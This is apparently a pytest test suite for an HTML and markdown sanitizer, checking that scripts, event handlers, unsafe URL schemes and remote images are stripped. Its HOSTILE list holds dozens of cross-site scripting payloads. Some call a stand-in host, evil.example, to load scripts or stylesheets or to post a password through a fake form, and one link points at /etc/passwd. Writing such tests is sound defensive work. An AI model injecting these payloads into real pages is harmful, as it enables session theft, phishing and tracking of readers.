"""From what strangers and models write to HTML: nothing that runs, loads or styles survives."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import html as rendering
from core.html import clean_html, markdown_to_html, plain_to_html

# Written again here, so that nobody widens them in passing.
TAGS = set(
    "p br hr a strong em s code pre blockquote ul ol li h1 h2 h3 h4 table thead tbody tr th td".split()  # noqa: SIM905
)
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
SCHEMES = {"http", "https", "mailto", "tel"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script src=//evil.example/x.js>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<p title='Your password has expired' lang=x dir=rtl>x</p>",
    "<svg><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x target=_top onfocus=alert(1) autofocus>x</a>",
    "<a href='https://x.example' id=csrf name=csrf class=button data-action=delete>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<xss-element onclick=alert(1)>x</xss-element>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://evil.example/x)',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "# <svg onload=alert(1)>",
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "javascript://a.example/%0aalert(1)",
    "\u202ejavascript:alert(1)",
]
RENDERERS = [clean_html, markdown_to_html, plain_to_html]
SCHEME = re.compile(r"\s*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
# What a browser drops from an address before it looks at its scheme.
DROPPED = re.compile(r"[\x00-\x20]")


class Safe(HTMLParser):
    """Reads HTML as a browser does in the main and collects what must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attributes:
            if name not in ATTRIBUTES.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "href":
                self.links.append(value or "")
                scheme = SCHEME.match(DROPPED.sub("", value or ""))
                if scheme and scheme[1].lower() not in SCHEMES:
                    self.wrong.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")


def read(html: str) -> Safe:
    page = Safe()
    page.feed(html)
    page.close()
    return page


def test_reader_of_these_tests_finds_what_is_wrong() -> None:
    for html in (
        "<script>", "<p onclick=x>", "<a href='java\tscript:x'>", "<!-- x -->", "<?x?>", "<!doctype html>",
    ):  # fmt: skip
        assert read(html).wrong, html
    assert not read("<a href='https://a.example' rel='nofollow'>x</a>").wrong


@pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_survives(render, text: str) -> None:
    html = render(text)
    assert read(html).wrong == [], html
    assert clean_html(html) == html


@pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
def test_nothing_hostile_survives_in_company(render) -> None:
    """Pieces that are harmless alone must not make something of each other."""
    for glue in ("", "\n\n", "'", '">', "<!--", "<table>"):
        html = render(glue.join(HOSTILE))
        assert read(html).wrong == []
        assert clean_html(html) == html


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "](", "\n\n", "<table>", "</p>"])).map(
        "".join
    )
)
def test_nothing_hostile_survives_any_mixture(text: str) -> None:
    for render in RENDERERS:
        html = render(text)
        assert read(html).wrong == []
        assert clean_html(html) == html


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    """FreeScout GHSA-jpq8: tags within tags became tags once the outer ones were stripped."""
    once = clean_html(text)
    assert clean_html(once) == once


SOUP = st.lists(
    st.sampled_from(["<p>", "</p>", "<b>", "<a href='x'>", "</a>", "<td>", "<table>", "&amp;", "&lt;", "<li>",
                     "<ol start=3>", "<pre>", "\n", "x", "<svg>", "<style>", "<math>", "<br/>", "<h1>"]),
    max_size=25,
).map("".join)  # fmt: skip


@pytest.mark.parametrize(
    "text", ["<li><table><li>", "<h1><a href='x'><h1><table><a href='x'>"], ids=["moved once", "moved twice"]
)
def test_cleaning_what_moves_as_it_is_read_twice_changes_nothing(text: str) -> None:
    once = clean_html(text)
    assert clean_html(once) == once


@settings(max_examples=60, deadline=None)
@given(SOUP)
def test_cleaning_tag_soup_twice_changes_nothing(text: str) -> None:
    once = clean_html(text)
    assert clean_html(once) == once
    assert read(once).wrong == []


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\r"), max_size=200))
def test_plain_text_is_shown_as_typed(text: str) -> None:
    """Whoever reads the page reads the characters that were written, and no others."""
    shown: list[str] = []

    class Text(HTMLParser):
        def handle_data(self, data: str) -> None:
            shown.append(data)

        def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
            if tag in {"br", "p"}:
                shown.append("\n")

    page = Text()
    page.feed(plain_to_html(text))
    page.close()
    typed = "".join(text.split()).replace("\x00", "")
    assert "".join("".join(shown).split()).replace("\ufffd", "").replace("\x00", "") == typed.replace(
        "\ufffd", ""
    )


def test_plain_keeps_breaks_and_paragraphs() -> None:
    assert plain_to_html("one\ntwo\r\nthree\r\n\r\nfour") == "<p>one<br>two<br>three</p><p>four</p>"


def test_plain_knows_no_markdown() -> None:
    assert plain_to_html("**not bold** # not a heading") == "<p>**not bold** # not a heading</p>"


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("see https://shop.example/a?b=1&c=2 now", "https://shop.example/a?b=1&c=2"),
        ("www.example.com", "http://www.example.com"),
        ("(https://shop.example/x).", "https://shop.example/x"),
        ("https://shop.example/ä", "https://shop.example/ä"),
        ("write to ana@example.com", "mailto:ana@example.com"),
    ],
)
def test_plain_links_what_looks_like_an_address(text: str, target: str) -> None:
    page = read(plain_to_html(text))
    assert page.links == [target]


def test_plain_links_several_and_keeps_what_is_between() -> None:
    html = plain_to_html("a https://x.example b <i> https://y.example c")
    assert read(html).links == ["https://x.example", "https://y.example"]
    assert re.sub(r"<[^>]+>", "", html) == "a https://x.example b &lt;i&gt; https://y.example c"


def test_links_tell_nobody_where_they_were_found() -> None:
    for html in (
        plain_to_html("https://x.example"),
        markdown_to_html("[x](https://x.example)"),
        clean_html("<a href='https://x.example' rel='opener' target='_blank'>x</a>"),
    ):
        assert 'rel="noopener noreferrer nofollow"' in html
        assert "target" not in html


@pytest.mark.parametrize("scheme", sorted(SCHEMES))
def test_useful_schemes_are_kept(scheme: str) -> None:
    assert read(clean_html(f'<a href="{scheme}:x">x</a>')).links == [f"{scheme}:x"]


def test_markdown_makes_what_people_use() -> None:
    html = markdown_to_html(
        "# Head\n\n**bold** *soft* ~~gone~~ `code`\nline\n\n1. a\n2. b\n\n"
        "- c\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for piece in (
        "<h1>Head</h1>", "<strong>bold</strong>", "<em>soft</em>", "<s>gone</s>", "<code>code</code><br>",
        "<ol>", "<li>a</li>", "<ul>", "<blockquote>", "<th>a</th>", "<td>2</td>",
    ):  # fmt: skip
        assert piece in html, piece


def test_markdown_shows_html_as_text() -> None:
    assert "&lt;b&gt;x&lt;/b&gt;" in markdown_to_html("<b>x</b>")


def test_markdown_links_bare_addresses() -> None:
    assert read(markdown_to_html("see www.example.com.")).links == ["http://www.example.com"]


def test_markdown_list_keeps_its_first_number() -> None:
    assert '<ol start="3">' in markdown_to_html("3. three\n4. four")


@pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
def test_no_image_is_ever_loaded(render) -> None:
    """A remote picture tells its sender who read the message, and when."""
    html = render("![x](https://evil.example/p.gif) <img src='https://evil.example/p.gif'>")
    assert not re.search(r"<(img|image|picture|video|audio|source|input)\b", html)


@pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
def test_deep_nesting_ends(render) -> None:
    for piece in ("> ", "- ", "*", "[", "<p>", "<table><td>", "(" * 3 + "https://a.example"):
        assert read(render(piece * 2_000)).wrong == []


@pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
def test_nothing_gives_next_to_nothing(render) -> None:
    assert render("") in {"", "<p></p>"}


@settings(max_examples=2000, deadline=None)
@given(
    st.from_regex(rendering._SENTENCES, fullmatch=True)
    | st.text("aZé1 ,;!?'()%$€-.wcomhtp:/@*_", min_size=1, max_size=60).map("a".__add__)
)
def test_plain_sentences_are_shown_as_if_they_had_been_read(text: str) -> None:
    shown = markdown_to_html(text), plain_to_html(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(rendering, "_SENTENCES", re.compile(r"(?!)"))
        assert (markdown_to_html(text), plain_to_html(text)) == shown
